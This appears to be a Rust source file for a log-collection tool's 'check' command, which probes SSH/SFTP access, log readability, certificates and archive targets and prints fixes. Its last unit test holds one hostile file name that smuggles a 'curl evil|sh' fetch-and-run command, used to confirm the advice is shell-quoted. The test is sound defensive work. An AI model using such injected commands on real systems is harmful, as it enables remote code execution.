//! `loghost check`: the preflight a sysadmin runs after editing the config, before the first
//! night's pull fails. It changes nothing anywhere (not the store, not a server, not a bucket)
//! and reports every problem it finds with the fix to apply.
//!
//! What is checked: the config (it loads: else exit 2); loghost's own files (store, SSH
//! identity, known_hosts, ledger key); per pulled host: reachable, host key pinned and matching,
//! our key accepted, the SFTP session read-only, each `paths`/`snapshot` pattern matching
//! readable files (named, with sizes), the journal directories; the receiver's certificate, key
//! and client CA; each anchor and the archive target (S3: Object Lock). Hosts are checked
//! concurrently (`[ssh] concurrency`), reported in config order.
//!
//! The read-only probe asks the server to remove a file that does not exist (see
//! [`Session::accepts_writes`]): a read-only session refuses before looking, a writable one
//! answers "no such file". Only when the session takes writes are the found logs opened for
//! writing (and closed at once) to tell which of them this account could change.

use std::fmt::Write as _;
use std::io::Write;
use std::path::Path;
use std::sync::Arc;

use anyhow::Result;
use tokio::sync::Semaphore;

use crate::config::{Config, HostConfig};
use crate::pull::known_hosts::{KnownHosts, fingerprint, key_type};
use crate::pull::remote::{Owner, RemoteError, Session};
use crate::sanitize::Shown;
use crate::units::human;

/// A certificate closer than this to its end is told (not a problem yet).
const EXPIRY_WARNING_DAYS: i64 = 30;
/// Files named one by one under a pattern; beyond, a count.
const MAX_LISTED: usize = 20;

/// How a finding weighs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Level {
    Ok,
    /// Worth knowing, not wrong (a certificate expiring within 30 days, a bucket without lock
    /// that the config allows).
    Note,
    /// Must be fixed: `check` exits 1.
    Problem,
}

/// One thing checked and what was found.
#[derive(Debug, Clone)]
pub struct Finding {
    pub level: Level,
    pub what: String,
    /// What to do about it (problems and notes).
    pub fix: Option<String>,
}

impl Finding {
    fn ok(what: impl Into<String>) -> Finding {
        Finding {
            level: Level::Ok,
            what: what.into(),
            fix: None,
        }
    }
    fn note(what: impl Into<String>, fix: Option<String>) -> Finding {
        Finding {
            level: Level::Note,
            what: what.into(),
            fix,
        }
    }
    fn problem(what: impl Into<String>, fix: impl Into<String>) -> Finding {
        Finding {
            level: Level::Problem,
            what: what.into(),
            fix: Some(fix.into()),
        }
    }
}

/// A heading (the config, a host, the receiver, …) and its findings.
#[derive(Debug, Clone)]
pub struct Section {
    pub title: String,
    pub findings: Vec<Finding>,
}

impl Section {
    fn new(title: impl Into<String>) -> Section {
        Section {
            title: title.into(),
            findings: Vec::new(),
        }
    }
    fn push(&mut self, f: Finding) {
        self.findings.push(f);
    }
    fn problems(&self) -> usize {
        self.findings
            .iter()
            .filter(|f| f.level == Level::Problem)
            .count()
    }
}

/// Runs every check of `config` (only the named hosts, and no receiver/anchor/archive checks,
/// when `names` is not empty), prints the report; the exit status: 0 all good, 1 problems.
pub async fn run(
    config: &Config,
    names: &[String],
    out: &mut impl Write,
    color: bool,
) -> Result<i32> {
    let hosts = config.pulled_hosts(names)?;
    // Loaded once: reported by `local`, used by every host's check.
    let identity = crate::keys::load_identity(&config.ssh.identity);
    let known = KnownHosts::load(&config.ssh.known_hosts);
    let mut sections = vec![local(config, &hosts, &identity, &known)];
    sections.extend(check_hosts(config, hosts, identity.ok(), known.ok()).await);
    if names.is_empty() {
        if let Some(s) = receiver(config) {
            sections.push(s);
        }
        sections.extend(targets(config).await);
    }
    let text = render(&sections, color);
    out.write_all(text.as_bytes())?;
    out.flush()?;
    Ok(if sections.iter().any(|s| s.problems() > 0) {
        1
    } else {
        0
    })
}

/// The report as printed.
pub fn render(sections: &[Section], color: bool) -> String {
    let mut s = String::new();
    for sec in sections {
        let _ = writeln!(s, "{}", sec.title);
        for f in &sec.findings {
            let (label, code) = match f.level {
                Level::Ok => ("ok", "32"),
                Level::Note => ("note", "33"),
                Level::Problem => ("PROBLEM", "1;31"),
            };
            let padded = format!("{label:<8}");
            if !color {
                let _ = writeln!(s, "  {padded} {}", f.what);
            } else {
                let _ = writeln!(s, "  \x1b[{code}m{padded}\x1b[0m {}", f.what);
            }
            if let Some(fix) = &f.fix {
                let _ = writeln!(s, "  {:<8} fix: {fix}", "");
            }
        }
        s.push('\n');
    }
    let failing: Vec<String> = sections
        .iter()
        .filter(|s| s.problems() > 0)
        .map(|s| format!("{} ({})", heading_name(&s.title), s.problems()))
        .collect();
    if failing.is_empty() {
        s.push_str("check: no problem found\n");
    } else {
        let n: usize = sections.iter().map(Section::problems).sum();
        let _ = writeln!(
            s,
            "check: {n} problem{} to fix: {}",
            if n == 1 { "" } else { "s" },
            failing.join(", ")
        );
    }
    s
}

/// A section's title up to its first space or colon (`web1 (…)` → `web1`).
fn heading_name(title: &str) -> &str {
    title
        .split([' ', ':'])
        .next()
        .filter(|t| !t.is_empty())
        .unwrap_or(title)
}

/// The config and loghost's own files.
fn local(
    config: &Config,
    hosts: &[HostConfig],
    identity: &Result<russh::keys::PrivateKey>,
    known: &Result<KnownHosts, String>,
) -> Section {
    let pulled = hosts.len();
    let received = config.hosts.iter().filter(|h| h.tls_name.is_some()).count();
    let mut sec = Section::new(format!("config {}", config.source.display()));
    sec.push(Finding::ok(format!(
        "valid: {pulled} host{} to pull{}{}",
        if pulled == 1 { "" } else { "s" },
        match &config.receiver {
            Some(_) => format!(", a receiver for {received} host(s)"),
            None => String::new(),
        },
        match &config.retention.archive {
            Some(a) => format!(", archive {a}"),
            None => String::new(),
        }
    )));
    let init = "run `loghost init` (as the user the service runs as) to create it";
    match crate::store::Store::open(&config.store) {
        Ok(_) => {
            use std::os::unix::fs::{MetadataExt, PermissionsExt};
            let meta = std::fs::metadata(&config.store).ok();
            let (owner, mode) = meta.map_or((0, 0), |m| (m.uid(), m.permissions().mode() & 0o777));
            if rustix::process::geteuid().is_root() && owner != 0 {
                let name = user_name(owner).unwrap_or_else(|| format!("'#{owner}'"));
                sec.push(Finding::note(
                    "checked as root, who may read and write what the service's user cannot",
                    Some(format!(
                        "run it as the store's owner too: `sudo -u {name} loghost check`"
                    )),
                ));
            }
            if mode & 0o077 != 0 {
                sec.push(Finding::problem(
                    format!(
                        "store {} has mode {mode:04o}: others may read the archive",
                        config.store.display()
                    ),
                    format!("chmod 700 {}", config.store.display()),
                ));
            } else {
                sec.push(Finding::ok(format!("store {}", config.store.display())));
            }
        }
        Err(e) => sec.push(Finding::problem(format!("{e}"), init)),
    }
    match identity {
        Ok(_) => sec.push(Finding::ok(format!(
            "SSH identity {} (install {} on each server)",
            config.ssh.identity.display(),
            crate::keys::public_key_path(&config.ssh.identity).display()
        ))),
        Err(e) if config.ssh.identity.exists() => {
            sec.push(Finding::problem(format!("{e:#}"), "see the message"))
        }
        Err(e) => sec.push(Finding::problem(format!("{e:#}"), init)),
    }
    match known {
        Ok(_) => sec.push(Finding::ok(format!(
            "known_hosts {}",
            config.ssh.known_hosts.display()
        ))),
        Err(e) => sec.push(Finding::problem(
            e.clone(),
            "fix or remove the line named (pins are made with `loghost trust`)",
        )),
    }
    match crate::keys::load_signing_key(&config.ledger.signing_key) {
        Ok(_) => sec.push(Finding::ok(format!(
            "ledger signing key {}",
            config.ledger.signing_key.display()
        ))),
        Err(e) if config.ledger.signing_key.exists() => {
            sec.push(Finding::problem(format!("{e:#}"), "see the message"))
        }
        Err(e) => sec.push(Finding::problem(format!("{e:#}"), init)),
    }
    sec
}

/// The name of the user with this numeric id, from /etc/passwd.
fn user_name(uid: u32) -> Option<String> {
    let passwd = std::fs::read_to_string("/etc/passwd").ok()?;
    passwd.lines().find_map(|l| {
        let mut f = l.split(':');
        let (name, _, id) = (f.next()?, f.next()?, f.next()?);
        (id.parse() == Ok(uid)).then(|| name.to_string())
    })
}

/// Every pulled host, concurrently; sections in config order.
async fn check_hosts(
    config: &Config,
    hosts: Vec<HostConfig>,
    identity: Option<russh::keys::PrivateKey>,
    known: Option<KnownHosts>,
) -> Vec<Section> {
    let (Some(identity), Some(known)) = (identity, known) else {
        return hosts
            .iter()
            .map(|h| {
                let mut s = Section::new(title(h));
                s.push(Finding::problem(
                    "not checked: loghost's SSH identity or known_hosts cannot be used",
                    "fix the problem reported above first",
                ));
                s
            })
            .collect();
    };
    let identity = Arc::new(identity);
    let known = Arc::new(known);
    let permits = Arc::new(Semaphore::new(config.ssh.concurrency));
    let mut tasks = Vec::new();
    for host in hosts {
        let (identity, known, permits) = (identity.clone(), known.clone(), permits.clone());
        let ssh = config.ssh.clone();
        tasks.push((
            title(&host),
            tokio::spawn(async move {
                let _permit = permits.acquire_owned().await;
                check_host(&host, &ssh, &known, identity).await
            }),
        ));
    }
    let mut out = Vec::new();
    for (title, t) in tasks {
        out.push(t.await.unwrap_or_else(|e| {
            let mut s = Section::new(title);
            s.push(Finding::problem(
                format!("internal error: {e}"),
                "report this bug",
            ));
            s
        }));
    }
    out
}

fn title(h: &HostConfig) -> String {
    match &h.address {
        Some(a) => format!("{} ({a}, user {})", h.name, h.user),
        None => h.name.clone(),
    }
}

/// One host: connection, read-only probe, every pattern, the journal.
async fn check_host(
    host: &HostConfig,
    ssh: &crate::config::SshConfig,
    known: &KnownHosts,
    identity: Arc<russh::keys::PrivateKey>,
) -> Section {
    let mut sec = Section::new(title(host));
    let Some(address) = host.address.as_ref() else {
        return sec;
    };
    let pins = known.pinned(&address.known_hosts_name());
    let session = match Session::connect(host, ssh, pins.clone(), identity).await {
        Ok(s) => s,
        Err(e) => {
            sec.push(connect_problem(host, ssh, &e));
            return sec;
        }
    };
    let pinned: Vec<String> = pins
        .iter()
        .map(|p| format!("{} {}", key_type(p), fingerprint(p)))
        .collect();
    sec.push(Finding::ok(format!(
        "reachable; host key pinned and matching ({})",
        pinned.join(", ")
    )));
    sec.push(Finding::ok(format!(
        "our key is accepted for user {}",
        host.user
    )));
    // Whether to try the found logs for writing: when the session may take writes.
    let writable = match session.accepts_writes().await {
        Ok(Some(false)) => {
            sec.push(Finding::ok(
                "the SFTP session is read-only (writes refused)",
            ));
            false
        }
        Ok(Some(true)) => {
            sec.push(Finding::problem(
                format!(
                    "the SFTP session on {} takes write requests: whoever holds loghost's key \
                     could change or delete files there. loghost only reads; its account must not \
                     be able to write",
                    host.name
                ),
                format!(
                    "on {}, in sshd_config: `Match User {}` / `ForceCommand internal-sftp -R`, \
                     then `systemctl reload ssh` (README: \"On each server\")",
                    host.name, host.user
                ),
            ));
            true
        }
        Ok(None) => {
            sec.push(Finding::note(
                "could not tell whether the SFTP session is read-only (the server's answer to \
                 a write request was neither a refusal nor \"no such file\")",
                Some(format!(
                    "make sure the account is read-only: `ForceCommand internal-sftp -R` on {}",
                    host.name
                )),
            ));
            // Unsure: the logs themselves are tried for writing (below).
            true
        }
        Err(e) => {
            sec.push(Finding::problem(
                format!("the read-only probe failed: {e}"),
                "check the server's SFTP subsystem and try again",
            ));
            session.close().await;
            return sec;
        }
    };

    let patterns = host
        .paths
        .iter()
        .map(|p| (p, "paths"))
        .chain(host.snapshot.iter().map(|p| (p, "snapshot")));
    for (pattern, key) in patterns {
        let lost = check_pattern(&session, host, pattern, key, writable, &mut sec).await;
        if lost {
            session.close().await;
            return sec;
        }
    }
    if !host.journal_dirs.is_empty() {
        check_journal(&session, host, &mut sec).await;
    }
    session.close().await;
    sec
}

/// A failed connection as a problem with its fix.
fn connect_problem(host: &HostConfig, ssh: &crate::config::SshConfig, e: &RemoteError) -> Finding {
    let what = e.to_string();
    let fix = match e {
        RemoteError::Connect { .. } | RemoteError::Timeout { .. } => format!(
            "check `address` of {} in the config, that sshd runs there, and that a firewall lets \
             this machine reach it (connect_timeout is {:?})",
            host.name, ssh.connect_timeout
        ),
        RemoteError::UnknownHostKey { fp, .. } => format!(
            "check the fingerprint on {} (`ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub`), \
             then pin it with: loghost trust {} --fingerprint {fp}",
            host.name, host.name
        ),
        RemoteError::ChangedHostKey { .. } => format!(
            "find out why the key changed. Only if {} was really reinstalled: read its new \
             fingerprint on the server itself (`ssh-keygen -lf \
             /etc/ssh/ssh_host_ed25519_key.pub`, never the one shown here), then `loghost trust \
             {} --fingerprint SHA256:<that fingerprint>`",
            host.name, host.name
        ),
        RemoteError::AuthRefused { public_key, .. } => format!(
            "on {}, put the line of {public_key} in ~{}/.ssh/authorized_keys (README: \"On each \
             server\"); check that account exists and sshd allows it (its log says why it refused)",
            host.name, host.user
        ),
        _ => format!(
            "check that {} runs OpenSSH with the sftp subsystem (its log says more)",
            host.name
        ),
    };
    Finding::problem(what, fix)
}

/// One configured pattern: matched files, each readable (opened, one byte read), and, when the
/// session takes writes, not writable. True when the connection was lost.
async fn check_pattern(
    session: &Session,
    host: &HostConfig,
    pattern: &str,
    key: &str,
    writable: bool,
    sec: &mut Section,
) -> bool {
    let mut warnings = Vec::new();
    let found = match session.expand(pattern, &mut warnings).await {
        Ok(f) => f,
        Err(e) => {
            let fix = if e.is_denied() {
                format!(
                    "on {}, let {} list the directories of {} (a group that may read them, or \
                     `setfacl -m u:{}:rx DIR`)",
                    host.name,
                    host.user,
                    Shown(pattern),
                    host.user
                )
            } else {
                format!("check {} on {}", Shown(pattern), host.name)
            };
            sec.push(Finding::problem(format!("{}: {e}", Shown(pattern)), fix));
            return e.is_connection_lost();
        }
    };
    for w in warnings {
        sec.push(Finding::note(w, None));
    }
    if found.is_empty() {
        sec.push(Finding::problem(
            format!("{} matches no file on {}", Shown(pattern), host.name),
            format!(
                "check the path on {}, or remove it from the host's `{key}` in the config",
                host.name
            ),
        ));
        return false;
    }
    let total: u64 = found.iter().map(|f| f.size).sum();
    let mut readable = 0usize;
    let mut unreadable = 0usize;
    for f in &found {
        let path = &f.path;
        let read = match session.open(path).await {
            Ok(file) => {
                let r = file.read_at(0, 1).await;
                file.close().await;
                r.map(|_| ())
            }
            Err(e) => Err(e),
        };
        match read {
            Ok(()) => {
                readable += 1;
                if found.len() <= MAX_LISTED {
                    sec.push(Finding::ok(format!(
                        "{}: {}, readable",
                        Shown(path),
                        human(f.size)
                    )));
                }
            }
            Err(e) if e.is_connection_lost() => {
                sec.push(Finding::problem(
                    format!("{}: {e}", Shown(path)),
                    "check the server (the connection was lost)",
                ));
                return true;
            }
            Err(e) => {
                unreadable += 1;
                // Named one by one up to MAX_LISTED (each costs a listing of its directory
                // for the advice), then counted.
                if unreadable <= MAX_LISTED {
                    let owner = session.owner_of(path).await;
                    sec.push(Finding::problem(
                        format!("{}: cannot be read: {e}", Shown(path)),
                        unreadable_fix(host, path, e.is_denied(), owner.as_ref()),
                    ));
                }
            }
        }
        if writable {
            match session.opens_for_writing(path).await {
                Ok(true) => sec.push(Finding::problem(
                    format!("{} can be written by {}", Shown(path), host.user),
                    format!(
                        "on {}, give {} read access only (e.g. `chmod 0640` with group adm), and \
                         make the session read-only (above)",
                        host.name, host.user
                    ),
                )),
                Ok(false) => {}
                Err(e) if e.is_connection_lost() => return true,
                Err(_) => {}
            }
        }
    }
    if unreadable > MAX_LISTED {
        sec.push(Finding::problem(
            format!(
                "{}: {} more files cannot be read",
                Shown(pattern),
                unreadable - MAX_LISTED
            ),
            "as for the files above",
        ));
    }
    if found.len() > MAX_LISTED {
        sec.push(Finding::ok(format!(
            "{}: {} files, {} in all, {readable} readable",
            Shown(pattern),
            found.len(),
            human(total)
        )));
    }
    false
}

/// What to do about a file the account cannot read.
fn unreadable_fix(host: &HostConfig, path: &str, denied: bool, owner: Option<&Owner>) -> String {
    // The path comes from the server: quoted for the shell, so that pasting the advice runs
    // nothing a file name says; a name that needs escaping to be shown at all is not put in a
    // command (its escaped form would name another file).
    let path = if Shown(path).to_string() == path {
        shell_quote(path)
    } else {
        "FILE".to_string()
    };
    let (name, user) = (&host.name, &host.user);
    if !denied {
        return format!("check {path} on {name}");
    }
    match owner {
        Some(o) if o.mode & 0o040 != 0 && !PRIVILEGED_GROUPS.contains(&o.group.as_str()) => {
            format!(
                "on {name}, add {user} to group {g}, which may read it: `usermod -aG {g} {user}` \
             (have logrotate create new files the same way: `create 0640 {u} {g}`)",
                g = o.group,
                u = o.user
            )
        }
        _ => format!(
            "on {name}, let {user} read it: `setfacl -m u:{user}:r {path}` (and the same for the \
             files logrotate creates), or make it group-readable by a group {user} is in"
        ),
    }
}

/// Groups whose members hold more than read access to logs: never advised, an ACL instead.
const PRIVILEGED_GROUPS: [&str; 11] = [
    "root", "sudo", "wheel", "admin", "shadow", "disk", "docker", "lxd", "kmem", "staff", "libvirt",
];

/// `s` as one shell word: as is when it holds only characters no shell treats specially, else
/// in single quotes.
fn shell_quote(s: &str) -> String {
    let plain = !s.is_empty()
        && s.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'/' | b'.' | b'_' | b'-' | b'+' | b',' | b'@' | b':' | b'%' | b'='
                )
        });
    if plain {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

/// The journal directories: files found, each opened and its header's magic checked.
async fn check_journal(session: &Session, host: &HostConfig, sec: &mut Section) {
    let dirs = host.journal_dirs.join(", ");
    let mut files = Vec::new();
    let mut denied = false;
    for dir in &host.journal_dirs {
        for suffix in ["*.journal", "*.journal~"] {
            let pattern = format!("{}/{suffix}", dir.trim_end_matches('/'));
            let mut warnings = Vec::new();
            match session.expand(&pattern, &mut warnings).await {
                Ok(found) => files.extend(found),
                Err(e) if e.is_not_found() => {}
                Err(e) if e.is_denied() => denied = true,
                Err(e) => {
                    sec.push(Finding::problem(
                        format!("journal: {}: {e}", Shown(&pattern)),
                        format!("check journal_dirs of {} in the config", host.name),
                    ));
                    if e.is_connection_lost() {
                        return;
                    }
                }
            }
        }
    }
    let group_fix = format!(
        "on {}, add {} to group systemd-journal: `usermod -aG systemd-journal {}`",
        host.name, host.user, host.user
    );
    if files.is_empty() {
        let what = if denied {
            format!("journal: the directories {} cannot be listed", Shown(&dirs))
        } else {
            format!("journal: no journal file in {}", Shown(&dirs))
        };
        let fix = if denied {
            group_fix
        } else {
            format!(
                "check journal_dirs; for a journal kept on disk, set Storage=persistent in \
                 journald.conf on {} (or `mkdir /var/log/journal`)",
                host.name
            )
        };
        sec.push(Finding::problem(what, fix));
        return;
    }
    let mut unreadable = Vec::new();
    let mut foreign = Vec::new();
    for f in &files {
        match session.open(&f.path).await {
            Ok(file) => {
                let head = file.read_at(0, 8).await;
                file.close().await;
                match head {
                    Ok(h) if h == b"LPKSHHRH" => {}
                    Ok(_) => foreign.push(f.path.clone()),
                    Err(_) => unreadable.push(f.path.clone()),
                }
            }
            Err(e) if e.is_connection_lost() => return,
            Err(_) => unreadable.push(f.path.clone()),
        }
    }
    let total: u64 = files.iter().map(|f| f.size).sum();
    let good = files.len() - unreadable.len() - foreign.len();
    if good > 0 {
        sec.push(Finding::ok(format!(
            "journal: {good} journal files, {} in all, readable",
            human(total)
        )));
    }
    if !unreadable.is_empty() {
        sec.push(Finding::problem(
            format!(
                "journal: {} of {} files cannot be read, e.g. {}",
                unreadable.len(),
                files.len(),
                Shown(&unreadable[0])
            ),
            group_fix,
        ));
    }
    if !foreign.is_empty() {
        sec.push(Finding::note(
            format!(
                "journal: {} files are not journal files (no journal header), e.g. {}; they are \
                 skipped",
                foreign.len(),
                Shown(&foreign[0])
            ),
            None,
        ));
    }
}

/// The receiver: certificate and key together, dates, chain order, client CA.
fn receiver(config: &Config) -> Option<Section> {
    let rc = config.receiver.as_ref()?;
    let listens: Vec<String> = [
        rc.listen.map(|a| format!("syslog over TLS on {a}")),
        rc.relp_listen.map(|a| format!("RELP on {a}")),
    ]
    .into_iter()
    .flatten()
    .collect();
    let mut sec = Section::new(format!("receiver ({})", listens.join(", ")));
    let now = crate::failpoint::fake_now().unwrap_or_else(jiff::Timestamp::now);
    match crate::receive::tls::server_config(rc) {
        Ok(_) => sec.push(Finding::ok(format!(
            "certificate {} and key {} go together; client CA {} loads",
            rc.cert.display(),
            rc.key.display(),
            rc.client_ca.display()
        ))),
        Err(e) => sec.push(Finding::problem(
            format!("{e:#}"),
            "give [receiver] cert (the chain, leaf first), key (PKCS#8 or the matching \
             private key, mode 0600) and client_ca (PEM)",
        )),
    }
    cert_dates(&mut sec, &rc.cert, "certificate", now, true);
    cert_dates(&mut sec, &rc.client_ca, "client CA", now, false);
    let identified: Vec<&str> = config
        .hosts
        .iter()
        .filter(|h| h.tls_name.is_some())
        .map(|h| h.name.as_str())
        .collect();
    if identified.is_empty() {
        sec.push(Finding::problem(
            "no host has a tls_name: every client would be refused",
            "set tls_name (the name in the client's certificate) on each host that sends",
        ));
    } else {
        sec.push(Finding::ok(format!(
            "{} host(s) identified by certificate: {}",
            identified.len(),
            identified.join(", ")
        )));
    }
    Some(sec)
}

/// The validity of each certificate in a PEM file, and (`chain`) that each is issued by the next.
fn cert_dates(sec: &mut Section, path: &Path, what: &str, now: jiff::Timestamp, chain: bool) {
    use rustls_pki_types::CertificateDer;
    use rustls_pki_types::pem::PemObject;
    let Ok(iter) = CertificateDer::pem_file_iter(path) else {
        return; // server_config reported it
    };
    let ders: Vec<CertificateDer> = iter.filter_map(Result::ok).collect();
    let mut parsed = Vec::new();
    for der in &ders {
        match x509_parser::parse_x509_certificate(der) {
            Ok((_, c)) => parsed.push(c),
            Err(e) => {
                sec.push(Finding::problem(
                    format!(
                        "{what} {}: a certificate does not parse: {e}",
                        path.display()
                    ),
                    "replace it with a valid PEM certificate",
                ));
                return;
            }
        }
    }
    let secs = now.as_second();
    for (i, c) in parsed.iter().enumerate() {
        let subject = Shown(&c.subject().to_string()).to_string();
        let (from, until) = (
            c.validity().not_before.timestamp(),
            c.validity().not_after.timestamp(),
        );
        let until_text = c.validity().not_after.to_string();
        let label = if i == 0 {
            format!("{what} {}", path.display())
        } else {
            format!("{what} {} (#{} {subject})", path.display(), i + 1)
        };
        if until < secs {
            sec.push(Finding::problem(
                format!("{label} expired on {until_text}"),
                "renew it (clients refuse an expired certificate)",
            ));
        } else if from > secs {
            sec.push(Finding::problem(
                format!("{label} is not valid before {}", c.validity().not_before),
                "check this machine's clock, or issue a certificate valid now",
            ));
        } else if until - secs < EXPIRY_WARNING_DAYS * 86_400 {
            sec.push(Finding::note(
                format!(
                    "{label} expires on {until_text}, in {} days",
                    (until - secs) / 86_400
                ),
                Some("renew it soon".into()),
            ));
        } else if i == 0 {
            sec.push(Finding::ok(format!(
                "{label} ({subject}) valid until {until_text}"
            )));
        }
        if chain
            && let Some(next) = parsed.get(i + 1)
            && c.issuer() != next.subject()
        {
            sec.push(Finding::problem(
                format!(
                    "{what} {}: certificate #{} is not issued by the next one in the file",
                    path.display(),
                    i + 1
                ),
                "put the chain in order: the server's certificate first, then each issuer",
            ));
        }
    }
}

/// Each anchor and the archive target: reachable, writable (directories), Object Lock (S3).
async fn targets(config: &Config) -> Vec<Section> {
    let mut out = Vec::new();
    for anchor in &config.ledger.anchors {
        let mut sec = Section::new(format!("anchor {anchor}"));
        check_target(config, anchor, &mut sec).await;
        out.push(sec);
    }
    if let Some(archive) = &config.retention.archive {
        let mut sec = Section::new(format!("archive {archive}"));
        check_target(config, archive, &mut sec).await;
        out.push(sec);
    }
    if config.ledger.anchors.is_empty() {
        let mut sec = Section::new("anchors");
        sec.push(Finding::note(
            "no anchor: checkpoints stay on this machine only, so an intruder who takes it can \
             rewrite the ledger unseen",
            Some("add [ledger] anchors (a file:// mount of another machine, or s3://)".into()),
        ));
        out.push(sec);
    }
    out
}

async fn check_target(config: &Config, url: &str, sec: &mut Section) {
    if let Some(dir) = url.strip_prefix("file://") {
        let dir = Path::new(dir);
        if !dir.is_dir() {
            sec.push(Finding::problem(
                format!("{} is not a directory", dir.display()),
                format!(
                    "mount or create it: `install -d -m 0700 -o loghost {}`",
                    dir.display()
                ),
            ));
            return;
        }
        // access(2), not a test file: an append-only or WORM mount would keep it.
        let can = rustix::fs::Access::WRITE_OK | rustix::fs::Access::EXEC_OK;
        match rustix::fs::access(dir, can) {
            Ok(()) => sec.push(Finding::ok(format!("{} is writable", dir.display()))),
            Err(e) => sec.push(Finding::problem(
                format!("{} is not writable: {e}", dir.display()),
                format!(
                    "let the user loghost runs as write there (`chown loghost {}`), and list it \
                     in the unit's ReadWritePaths=",
                    dir.display()
                ),
            )),
        }
        return;
    }
    if let Some(rest) = url.strip_prefix("s3://") {
        #[cfg(feature = "s3")]
        {
            let Some(s3) = config.s3.as_ref() else {
                sec.push(Finding::problem(
                    "no [s3] table in the config",
                    "add [s3] with region (and endpoint, credentials)",
                ));
                return;
            };
            match crate::s3::S3Target::open(rest, s3).await {
                Ok(t) if t.locked() => sec.push(Finding::ok(format!(
                    "bucket reachable; Object Lock enabled (objects are locked COMPLIANCE for \
                     {} days)",
                    config.retention.object_lock_days
                ))),
                Ok(_) => sec.push(Finding::note(
                    "bucket reachable, without Object Lock (allow_unlocked = true): what is \
                     stored there can be deleted",
                    Some("use a bucket created with Object Lock enabled".into()),
                )),
                Err(e) => sec.push(Finding::problem(
                    // The endpoint's words: shown safely.
                    Shown(&format!("{e:#}")).to_string(),
                    "check [s3] endpoint, region and credentials, and the bucket",
                )),
            }
            return;
        }
        #[cfg(not(feature = "s3"))]
        {
            let _ = (config, rest);
            sec.push(Finding::problem(
                "this loghost was built without S3 support",
                "rebuild it with default features",
            ));
            return;
        }
    }
    sec.push(Finding::problem(
        "not a target URL",
        "use file:///dir or s3://bucket/prefix",
    ));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_report_names_each_problem_with_its_fix_and_sums_up() {
        let mut a = Section::new("web1 (127.0.0.1:22, user logpull)");
        a.push(Finding::ok("reachable"));
        a.push(Finding::problem(
            "/var/log/x: cannot be read",
            "usermod -aG adm logpull",
        ));
        let b = Section::new("config /etc/loghost/loghost.toml");
        let text = render(&[b.clone(), a], false);
        assert!(
            text.contains("  PROBLEM  /var/log/x: cannot be read\n"),
            "{text}"
        );
        assert!(
            text.contains("           fix: usermod -aG adm logpull\n"),
            "{text}"
        );
        assert!(
            text.ends_with("check: 1 problem to fix: web1 (1)\n"),
            "{text}"
        );
        assert!(render(&[b], false).ends_with("check: no problem found\n"));
    }

    #[test]
    fn an_unreadable_group_readable_file_asks_for_the_group() {
        let config = Config::parse(
            "store = \"/s\"\n[[host]]\nname = \"web1\"\naddress = \"10.0.0.1\"\n\
             user = \"logpull\"\npaths = [\"/var/log/auth.log\"]\n",
            Path::new("/etc/loghost/loghost.toml"),
        )
        .expect("config");
        let h = &config.hosts[0];
        let adm = Owner {
            mode: 0o640,
            user: "root".into(),
            group: "adm".into(),
        };
        let fix = unreadable_fix(h, "/var/log/auth.log", true, Some(&adm));
        assert!(fix.contains("usermod -aG adm logpull"), "{fix}");
        let private = Owner { mode: 0o600, ..adm };
        let fix = unreadable_fix(h, "/var/log/auth.log", true, Some(&private));
        assert!(
            fix.contains("setfacl -m u:logpull:r /var/log/auth.log"),
            "{fix}"
        );
        // A hostile server's file name cannot make the advice run something.
        let fix = unreadable_fix(h, "/var/log/x; curl evil|sh 'y'", true, None);
        assert!(
            fix.contains("setfacl -m u:logpull:r '/var/log/x; curl evil|sh '\\''y'\\'''"),
            "{fix}"
        );
    }
}
